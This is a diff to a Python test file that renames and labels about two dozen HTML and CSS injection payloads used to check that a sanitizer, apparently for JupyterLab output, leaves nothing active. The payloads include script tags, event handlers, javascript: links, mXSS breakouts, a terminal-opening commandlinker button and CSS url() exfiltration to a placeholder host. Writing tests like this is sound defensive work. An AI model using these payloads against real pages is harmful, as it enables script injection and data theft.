@@ -697,35 +697,45 @@ def test_the_frame_reader_refuses_oversized_invalid_and_non_object_frames():
 
 # ------------------------------------------------------------------ the sanitizer itself
 
-ATTACKS = [
-    '<img src=x onerror="alert(1)">',
-    "<script>alert(1)</script>",
-    '<iframe src="https://example.invalid"></iframe>',
-    '<a href="javascript:alert(1)">a</a>',
-    '<a href=" java&#x09;script:alert(1)">a</a>',
-    '<object data="x.swf"></object><embed src="x.swf">',
-    '<svg><script>alert(1)</script></svg><svg onload="alert(1)"></svg>',
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-    '<meta http-equiv="refresh" content="0;url=https://example.invalid">',
-    '<base href="https://example.invalid/">',
-    '<link rel="stylesheet" href="https://example.invalid/x.css">',
-    '<form action="https://example.invalid"><input name="a"><button>go</button></form>',
-    '<button data-commandlinker-command="terminal:create-new">open a terminal</button>',
-    '<details open ontoggle="alert(1)">x</details>',
-    '<style>@import url("https://example.invalid/x.css");</style>',
-    "<style>input[value^=a] { background: url(https://example.invalid/a) }</style>",
-    '<p style="background-image: url(https://example.invalid/track)">x</p>',
-    '<p style="background: u\\72l(https://example.invalid/track)">x</p>',
-    '<p style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh">x</p>',
-    '<style>p { font-family: "\\3c /style><img src=x onerror=alert(1)>" }</style><p>x</p>',
-    "<style>p { color: red } } body { display: none }</style>",
-    '<img src="https://example.invalid/track.png">',
-    '<div class="jp-Dialog">fake dialog</div>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-]
+ATTACKS = {
+    "img-onerror": '<img src=x onerror="alert(1)">',
+    "script": "<script>alert(1)</script>",
+    "iframe": '<iframe src="https://example.invalid"></iframe>',
+    "javascript-link": '<a href="javascript:alert(1)">a</a>',
+    "javascript-link-with-tab": '<a href=" java&#x09;script:alert(1)">a</a>',
+    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
+    "svg-script-onload": '<svg><script>alert(1)</script></svg><svg onload="alert(1)"></svg>',
+    "mathml-link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://example.invalid">',
+    "base": '<base href="https://example.invalid/">',
+    "link-stylesheet": '<link rel="stylesheet" href="https://example.invalid/x.css">',
+    "form-input-button": (
+        '<form action="https://example.invalid"><input name="a"><button>go</button></form>'
+    ),
+    "commandlinker": (
+        '<button data-commandlinker-command="terminal:create-new">open a terminal</button>'
+    ),
+    "details-ontoggle": '<details open ontoggle="alert(1)">x</details>',
+    "style-import": '<style>@import url("https://example.invalid/x.css");</style>',
+    "style-url-exfiltration": (
+        "<style>input[value^=a] { background: url(https://example.invalid/a) }</style>"
+    ),
+    "inline-url": '<p style="background-image: url(https://example.invalid/track)">x</p>',
+    "inline-escaped-url": '<p style="background: u\\72l(https://example.invalid/track)">x</p>',
+    "inline-position-fixed": (
+        '<p style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh">x</p>'
+    ),
+    "style-element-breakout": (
+        '<style>p { font-family: "\\3c /style><img src=x onerror=alert(1)>" }</style><p>x</p>'
+    ),
+    "style-rule-breakout": "<style>p { color: red } } body { display: none }</style>",
+    "image-url": '<img src="https://example.invalid/track.png">',
+    "jupyterlab-class": '<div class="jp-Dialog">fake dialog</div>',
+    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+}
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
 def test_the_html_sanitizer_leaves_nothing_active(attack):
     s = untrusted.Sanitizer("t")
     out = s.html(attack).lower()
